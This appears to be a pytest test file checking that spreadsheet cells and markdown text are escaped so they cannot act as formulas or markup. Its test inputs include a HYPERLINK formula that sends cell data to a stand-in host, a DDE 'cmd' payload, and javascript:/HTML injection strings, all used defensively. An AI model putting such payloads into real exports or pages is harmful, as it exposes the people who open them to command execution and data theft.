import pytest

from core.domain.text_files import markdown, spreadsheet


@pytest.mark.parametrize(
    "formula", ["=1+1", '=HYPERLINK("http://e/"&A1)', "+cmd|' /c calc'!A1", "-2+3", "@SUM(A1)", "\t=1+1", "-a"]
)
def test_no_cell_is_taken_for_a_formula(formula: str) -> None:
    assert spreadsheet(formula) == f"'{formula}"


@pytest.mark.parametrize("plain", ["", "+", "=", "-", "~", "agents", "a=b", "-12", "+3.5", "-1,234", "-1.5e-3", "1-2"])
def test_other_cells_stay_as_they_are(plain: str) -> None:
    assert spreadsheet(plain) == plain


def test_markdown_shows_markup_as_text() -> None:
    assert markdown("<img src=x> [a](javascript:x) `c` a|b\x1b") == (
        "\\<img src=x\\> \\[a\\](javascript:x) \\`c\\` a\\|b\\\\x1b"
    )
